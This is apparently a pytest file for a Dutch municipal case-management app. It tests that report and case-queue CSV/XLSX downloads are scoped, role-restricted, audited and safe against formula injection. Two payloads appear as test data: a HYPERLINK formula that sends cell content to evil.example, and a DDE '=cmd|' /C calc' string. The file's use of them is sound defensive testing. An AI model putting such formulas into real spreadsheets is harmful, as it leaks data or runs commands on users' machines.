"""Downloads: report tables and the case queue as CSV and XLSX, formula-safe; the case queue audited."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from eropaf.accounts.roles import Role
from eropaf.audit.models import AuditAction, AuditEvent
from eropaf.cases.models import Case
from eropaf.organisations.models import District
from eropaf.reporting.exports import Column, Kind, SheetFormat, Table, TableRow, table_csv, table_xlsx
from tests.factories import TeamFactory, make_case_with_signal, make_user_with_role
from tests.reporting.conftest import Dataset

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
TABLE = Table(
    key="voorbeeld",
    title="Zaken per wijk: [test]",
    columns=(
        Column("Wijk", Kind.TEXT),
        Column("Zaken"),
        Column("Bereikt %", Kind.PERCENT),
        Column("Per 1.000", Kind.RATE),
    ),
    rows=(
        TableRow((ATTACK, 3, 66.66666, 0.175), is_small=True),
        TableRow(("+31 Noord", 1234, None, 2.0)),
        TableRow(("Alle", 1237, 100.0, None), is_total=True),
    ),
    flags_small=True,
    small_label="Klein aantal",
    yes="ja",
)


def test_a_table_as_csv_is_neutralised_dutch_and_complete() -> None:
    content = table_csv(TABLE)

    assert content.startswith(b"\xef\xbb\xbf")
    assert content.count(b"\r\n") == 4
    records = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert records == [
        ["Wijk", "Zaken", "Bereikt %", "Per 1.000", "Klein aantal"],
        ["'" + ATTACK, "3", "66,7", "0,18", "ja"],
        ["'+31 Noord", "1234", "", "2,00", ""],
        ["Alle", "1237", "100,0", "", ""],
    ]


def test_a_table_as_xlsx_keeps_numbers_as_numbers_and_text_harmless() -> None:
    sheet = load_workbook(io.BytesIO(table_xlsx(TABLE))).active
    assert sheet is not None
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]

    assert sheet.title == "Zaken per wijk   test"
    assert values[0] == ["Wijk", "Zaken", "Bereikt %", "Per 1.000", "Klein aantal"]
    assert values[1] == ["'" + ATTACK, 3, 66.7, 0.18, "ja"]
    assert values[2][0] == "'+31 Noord"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.django_db
def test_a_table_download_holds_the_figures_of_the_page(dataset: Dataset, client: Client) -> None:
    District.objects.filter(municipality=dataset.municipality, code="C").update(name=ATTACK)
    client.force_login(make_user_with_role(Role.TEAM_LEAD, team=dataset.team_1))
    url = reverse("reporting:dashboard-table", args=["wijken", "csv"])

    response = client.get(url, {"van": "2026-09", "tot": "2026-10"})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="wijken-0999-2026-09-2026-10.csv"'
    lines = response.content.decode("utf-8-sig").split("\r\n")
    assert lines[0].split(";") == [
        "Wijk", "Zaken", "Afgesloten", "Bereikt", "Bereikt %", "Hulpacceptatie", "Hulp geaccepteerd %",
        "Terugkerend %", "Klein aantal",
    ]  # fmt: skip
    assert lines[1].startswith("\"'=HYPERLINK(")
    assert lines[1].endswith(";3;3;2;66,7;1;33,3;66,7;ja")
    assert lines[2] == "Noord;2;1;0;0,0;0;0,0;50,0;ja"


@pytest.mark.django_db
@pytest.mark.parametrize(
    "key",
    ["routes", "trend-signalen", "trend-zaken", "trend-rechtbank", "partners", "teams",
     "indicatoren-maand", "indicatoren-partnersoort", "indicatoren-contactsoort",
     "werkt-contactsoort", "werkt-eerste-contactsoort", "werkt-pogingen", "werkt-dagdeel",
     "werkt-werkbak", "werkt-leeftijd", "werkt-beleid"],
)  # fmt: skip
def test_every_table_of_the_report_pages_downloads_as_xlsx(
    dataset: Dataset, client: Client, key: str
) -> None:
    client.force_login(make_user_with_role(Role.POLICY_OFFICER, municipality=dataset.municipality))

    response = client.get(reverse("reporting:dashboard-table", args=[key, "xlsx"]), {"van": "2026-09"})

    assert response.status_code == 200
    assert response["Content-Type"] == SheetFormat.XLSX.content_type
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    assert sheet.max_row >= 2


@pytest.mark.django_db
def test_an_unknown_table_or_another_municipality_is_not_found(dataset: Dataset, client: Client) -> None:
    client.force_login(make_user_with_role(Role.POLICY_OFFICER, municipality=dataset.municipality))

    assert client.get(reverse("reporting:dashboard-table", args=["geheim", "csv"])).status_code == 404
    other = client.get(reverse("reporting:dashboard-table", args=["wijken", "csv"]), {"gemeente": "0998"})
    assert other.status_code == 404


@pytest.mark.django_db
def test_the_case_queue_export_is_neutralised_and_audited_with_case_ids(client: Client) -> None:
    team = TeamFactory.create(name="Vroegsignalering")
    lead = make_user_with_role(Role.TEAM_LEAD, team=team)
    mine = make_case_with_signal(
        team=team, first_names="", initials="", surname="=cmd|' /C calc'!A0", bsn="123456782"
    )
    also_mine = make_case_with_signal(team=team, surname="Pietersen", house_number=7)
    elsewhere = make_case_with_signal(team=TeamFactory.create(), surname="Buitendijk")
    client.force_login(lead)

    response = client.get(reverse("reporting:case-queue-export", args=["csv"]))

    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    assert "'=cmd|' /C calc'!A0" in text
    assert "Pietersen" in text
    assert "Buitendijk" not in text
    assert "123456782" not in text
    assert text.split("\r\n")[0].startswith("Zaak;Maand;Adres;Namen;")
    event = AuditEvent.objects.get(action=AuditAction.EXPORT)
    assert event.actor == lead
    assert event.subject_type == "case_queue"
    assert event.case_ids == sorted([mine.pk, also_mine.pk])
    assert elsewhere.pk not in event.case_ids
    assert len(event.signal_ids) == 2
    assert "Pietersen" not in event.description
    assert "calc" not in event.description
    assert "123456782" not in event.description


@pytest.mark.django_db
def test_the_case_queue_export_follows_the_list_filters_over_every_page(client: Client) -> None:
    team = TeamFactory.create()
    lead = make_user_with_role(Role.TEAM_LEAD, team=team)
    cases = [make_case_with_signal(team=team, house_number=number) for number in range(1, 56)]
    Case.objects.filter(pk=cases[0].pk).update(queue="huisbezoek")
    client.force_login(lead)

    everything = client.get(reverse("reporting:case-queue-export", args=["xlsx"]))
    one_queue = client.get(reverse("reporting:case-queue-export", args=["csv"]), {"werkbak": "huisbezoek"})

    sheet = load_workbook(io.BytesIO(everything.content)).active
    assert sheet is not None
    assert sheet.max_row == 1 + 55  # the case list shows 50 a page; the file holds them all
    assert len(one_queue.content.decode("utf-8-sig").strip().split("\r\n")) == 2
    first, second = AuditEvent.objects.filter(action=AuditAction.EXPORT).order_by("pk")
    assert len(first.case_ids) == 55
    assert second.case_ids == [cases[0].pk]
    assert "xlsx" in first.description


@pytest.mark.django_db
@pytest.mark.parametrize("role", [Role.POLICY_OFFICER, Role.CASE_WORKER])
def test_only_team_leads_export_the_case_queue(client: Client, role: Role) -> None:
    team = TeamFactory.create()
    make_case_with_signal(team=team)
    client.force_login(make_user_with_role(role, team=team, municipality=team.municipality))

    assert client.get(reverse("reporting:case-queue-export", args=["csv"])).status_code == 403
    assert not AuditEvent.objects.filter(action=AuditAction.EXPORT).exists()
